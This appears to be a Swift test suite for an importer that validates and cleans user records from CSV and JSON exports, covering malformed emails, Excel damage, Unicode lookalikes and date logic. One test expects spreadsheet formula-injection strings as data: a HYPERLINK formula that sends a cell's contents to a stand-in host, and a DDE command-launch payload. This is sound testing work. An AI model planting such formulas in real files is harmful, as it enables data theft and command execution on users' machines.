import SCIM
import Testing

@testable import Exports

@Suite struct `Records` {
    private func read(_ rows: String, header: String = "id,login,firstName,email,phone,status") throws -> Reading {
        try Reading(csv: header + "\n" + rows + "\n")
    }

    @Test(arguments: [
        (",a@example.com,A,a@example.com,,ACTIVE", "no-anchor", "id"),
        ("1,,A,,,ACTIVE", "no-username", "login"), ("1,ann,A,,,ACTIVE", "no-email", "email"),
        ("1,ann,A,nobody,,ACTIVE", "not-an-address", "email"),
        ("1,ann,A,\"a@example.com,b@example.com\",,ACTIVE", "two-addresses", "email"),
        ("1,a@example.com,A,a@example.com,,LIMBO", "unknown-status", "status"),
        ("1.23E+05,a@example.com,A,a@example.com,,ACTIVE", "excel-damage", "id"),
        ("#REF!,a@example.com,A,a@example.com,,ACTIVE", "excel-damage", "id"),
        ("1,a@example.com,A,#NAME?,,ACTIVE", "excel-damage", "email"),
        ("1,a@example.com,A,'a@example.com,,ACTIVE", "leading-apostrophe", "email"),
        ("1,'a@example.com,A,a@example.com,,ACTIVE", "leading-apostrophe", "login"),
        ("1,a b@example.com,A,a@example.com,,ACTIVE", "white-space", "login"),
        ("1,a\u{200B}b@example.com,A,a@example.com,,ACTIVE", "zero-width", "login"),
        ("1,аdmin@example.com,A,a@example.com,,ACTIVE", "mixed-scripts", "login"),
        ("1,a@example.com,A", "too-few-fields", nil),
        ("1,a@example.com,A,a@example.com,,ACTIVE,x", "too-many-fields", nil),
        ("1,a@example.com,A,\(String(repeating: "x", count: 300))@example.com,,ACTIVE", "too-long", "email"),
        ("1,a@example.com,\(String(repeating: "x", count: 1025)),a@example.com,,ACTIVE", "too-long", "firstName"),
    ])
    func `that cannot be used are rejected with their column`(row: String, code: String, column: String?) throws {
        let reading = try read("9,good@example.com,G,good@example.com,,ACTIVE\n" + row)
        #expect(reading.codes == [code])
        #expect(reading.rejected.first?.column == column)
        #expect(reading.rejected.first?.line == 3)
        #expect(reading.rejected.first?.original.count ?? 0 >= 3)
        #expect(reading.records.count == 1)
        #expect(reading.summaries[0].records == 2)
    }

    @Test func `that are rejected say who they may be about`() throws {
        let reading = try read(
            "7,ann@example.com,A,\"x@example.com;y@example.com\",,ACTIVE\n9,g@example.com,G,g@example.com,,ACTIVE")
        let rejected = try #require(reading.rejected.first)
        #expect(rejected.anchor == "7")
        #expect(rejected.userName == "ann@example.com")
        #expect(rejected.email == "x@example.com;y@example.com")
        #expect(rejected.original.map(\.column) == ["id", "login", "firstName", "email", "phone", "status"])
        #expect(
            rejected.original.map(\.value) == [
                "7", "ann@example.com", "A", "x@example.com;y@example.com", "", "ACTIVE",
            ])
    }

    @Test func `without a single usable one are no export`() throws {
        #expect(try read(",a@example.com,A,a@example.com,,ACTIVE").refusal?.code == "nothing-usable")
    }

    @Test func `fall back to the login for the address`() throws {
        let reading = try read("1,ann@example.com,A,,,ACTIVE")
        #expect(reading.text("emails.work", reading.records[0]) == "ann@example.com")
        #expect(reading.export?.rules.first { $0.name == "emails.work" }?.overwrite == .always)
        let without = try Reading(csv: "id,login\n1,ann@example.com\n")
        #expect(without.text("emails.work", without.records[0]) == "ann@example.com")
        #expect(without.export?.rules.first { $0.name == "emails.work" }?.overwrite == .ifEmpty)
    }

    @Test func `clean addresses, phones and ids, and keep the rest as it is`() throws {
        let reading = try read(
            "=\"0042\", Ann@Example.com ,\"  Ann \t Mary \",Ann <ann@example.com>,'+420555010100,active \u{A0}")
        let ann = try #require(reading.records.first)
        #expect(ann.anchor == "0042")
        #expect(reading.text("userName", ann) == "Ann@Example.com")
        #expect(reading.text("emails.work", ann) == "ann@example.com")
        #expect(reading.text("name.givenName", ann) == "Ann Mary")
        #expect(reading.text("phoneNumbers.work", ann) == "+420555010100")
        #expect(ann.activity == .active)
    }

    @Test func `keep formula characters`() throws {
        let reading = try Reading(Fixtures.path("traps/formula-injection.csv"))
        #expect(
            reading.records.map { reading.text("displayName", $0) } == [
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-Dee",
                "\t=1+1",
            ])
    }

    @Test func `tell missing, blank and a value apart`() throws {
        let reading = try Reading(csv: "id,login,title\n1,a@example.com,\n2,b@example.com,Boss\n")
        #expect(reading.value("title", reading.records[0]) == .blank)
        #expect(reading.value("title", reading.records[1]) == .value("Boss"))
        #expect(reading.export?.rules.contains { $0.name == "enterprise.department" } == false)
        let directory = try Directory()
        let json = try Reading(
            try directory.write(
                #"[{"id":"1","status":"ACTIVE","profile":{"login":"a@x","email":"a@x","title":null}},{"id":"2","status":"ACTIVE","profile":{"login":"b@x","email":"b@x"}}]"#,
                to: "users.json"))
        #expect(json.value("title", json.records[0]) == .blank)
        #expect(json.value("title", json.records[1]) == .missing)
    }

    @Test func `leave names alone that lost their letters, and warn once`() throws {
        let reading = try Reading(Fixtures.path("entra/get-mguser-export-csv-ps51.csv"))
        let (ada, kwame) = (try #require(reading.record("ada")), try #require(reading.record("kwame")))
        #expect(reading.value("name.familyName", ada) == .missing)
        #expect(reading.value("displayName", ada) == .missing)
        #expect(reading.value("name.givenName", ada) == .missing)
        #expect(reading.text("name.givenName", kwame) == "Kwame")
        #expect(reading.warnings.count { $0 == "lost-letters" } == 1)
        #expect(reading.warnings.contains("activity-unstated"))
    }

    @Test func `never take the name of a type for a value`() throws {
        let reading = try Reading(
            csv: """
                ObjectId,ObjectType,UserPrincipalName,Mail,OtherMails,AccountEnabled,UserType
                1,User,g#EXT#@x.onmicrosoft.com,,System.Collections.Generic.List`1[System.String],True,Guest
                2,User,b@example.com,b@example.com,x,True,
                """,
            {
                var mapping = MappingConfiguration(); mapping.scope.includesGuests = true; return mapping
            }())
        #expect(reading.codes == ["no-email"])
        #expect(reading.records.count == 1)
    }

    @Test func `follow dates that are ahead`() throws {
        let header = "Employee ID,Email - Work,Active Status,Hire Date,Termination Date"
        let reading = try Reading(
            csv: """
                \(header)
                1,a@example.com,Yes,2027-01-04,
                2,b@example.com,No,2020-01-01,2026-12-31
                3,c@example.com,Yes,2020-01-01,0000-00-00
                4,d@example.com,No,2020-01-01,2026-11-21
                5,e@example.com,No,2020-01-01,2026-11-22
                6,f@example.com,Yes,03/04/2027,
                7,g@example.com,On leave,2026-11-22,
                """)
        #expect(
            reading.records.map(\.activity) == [
                .undecided(word: "starts 2027-01-04", mayCreate: false), .active, .active, .inactive, .active, .active,
                .active,
            ])
        #expect(reading.warnings.contains("ambiguous-date"))
    }

    @Test func `are narrowed by the scope`() throws {
        var mapping = MappingConfiguration()
        mapping.scope.include = [.init(column: located("Department"), in: ["Sales", " field"])]
        mapping.scope.exclude = [.init(column: located("userName"), in: ["C@example.com"])]
        let reading = try Reading(
            csv: "id,login,department\n1,a@example.com,SALES\n2,b@example.com,IT\n3,c@example.com,Field\n4,,IT\n",
            mapping)
        #expect(reading.records.map(\.anchor) == ["1"])
        #expect(reading.summaries[0].outOfScope == 3)
        #expect(reading.rejected.isEmpty)
    }

    @Test func `read groups only with the separator that is configured`() throws {
        let file = Fixtures.path("traps/group-separators.csv")
        let plain = try Reading(file)
        #expect(plain.records.allSatisfy { $0.groups == nil })
        #expect(plain.warnings.contains("groups-separator"))
        var options = ReadingOptions(asOf: asOf)
        options.mapping.groups.separator = .semicolon
        #expect(try Reading([file], options: options).records[0].groups == ["Popl-Users", "Popl-Admins"])
        options.mapping.groups.separator = .json
        let json = try Reading([file], options: options).records
        #expect(json[3].groups == ["Popl-Users", "Sales, EMEA"])
        #expect(json[0].groups == nil)
        options.mapping.groups.isEnabled = false
        #expect(try Reading([file], options: options).records[3].groups == nil)
    }

    @Test func `of the Unicode traps are one login where they are, and none where they hide something`() throws {
        let reading = try Reading(Fixtures.path("traps/unicode-traps.csv"))
        #expect(reading.rejected.map(\.line) == [6, 7, 9])
        #expect(reading.codes == ["zero-width", "mixed-scripts", "lookalike"])
        #expect(reading.rejected[2].message.contains("U+FF20"))
        let keys = try reading.records.map { try CanonicalKey.userName(try #require(reading.text("userName", $0))) }
        #expect(keys[0] == keys[1])
        #expect(keys[2] == keys[3])
        #expect(reading.records.count == 7)
    }

    @Test func `of the spreadsheet traps keep what was not lost`() throws {
        let reading = try Reading(Fixtures.path("traps/excel-mangled.csv"))
        #expect(reading.records.map(\.activity) == [.active, .inactive, .active])
        #expect(reading.text("phoneNumbers.work", reading.records[2]) == "0042")
        let apostrophes = try Reading(Fixtures.path("traps/leading-apostrophes.csv"))
        #expect(apostrophes.codes == ["leading-apostrophe"])
        #expect(apostrophes.records.map { apostrophes.text("phoneNumbers.work", $0) } == ["+420555010100", "@handle'"])
        let blanks = try Reading(Fixtures.path("traps/whitespace-and-case.csv"))
        #expect(
            blanks.records.map { blanks.text("emails.work", $0) } == [
                "Ann@Example.com", "bob@example.com", "cy@example.com",
            ])
        #expect(blanks.records.map(\.activity) == [.active, .active, .active])
    }

    @Test func `keep every digit of an id`() throws {
        let reading = try Reading(Fixtures.path("traps/json-big-integers.json"))
        #expect(reading.records.map(\.anchor) == ["9007199254740993", "9007199254740992"])
        #expect(Set(reading.records.map(\.anchorDigest)).count == 2)
    }

    @Test func `are all delivered when two rows contradict each other`() throws {
        let reading = try Reading(Fixtures.path("traps/same-person-twice.csv"))
        #expect(reading.records.count == 6)
        #expect(reading.records[0].fingerprint == reading.records[1].fingerprint)
        #expect(reading.records[2].anchorDigest == reading.records[3].anchorDigest)
        #expect(reading.records[2].fingerprint != reading.records[3].fingerprint)
    }
}
